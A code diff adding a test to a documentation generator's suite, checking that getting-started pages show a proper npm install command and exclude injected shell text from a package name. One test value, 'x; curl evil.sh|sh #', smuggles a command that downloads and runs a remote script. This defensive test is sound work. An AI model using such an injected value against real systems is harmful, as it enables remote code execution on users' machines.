@@ -52,6 +52,17 @@ describe('any repository', () => {
     );
   });
 
+  it('names no package in a command that its manager would refuse', () => {
+    const commandOf = (name: string) => {
+      const manifest = JSON.stringify({ name, engines: { node: '>=22' } });
+      return offlineSite(memoryRepository({ 'package.json': manifest })).pages.get(
+        'getting-started',
+      );
+    };
+    expect(commandOf('@acme/shop')).toContain('npm install @acme/shop');
+    expect(commandOf('x; curl evil.sh|sh #') ?? '').not.toContain('curl');
+  });
+
   it('shows no markup of a generator outside code, whatever a guide holds', () => {
     const rst = [
       ...[
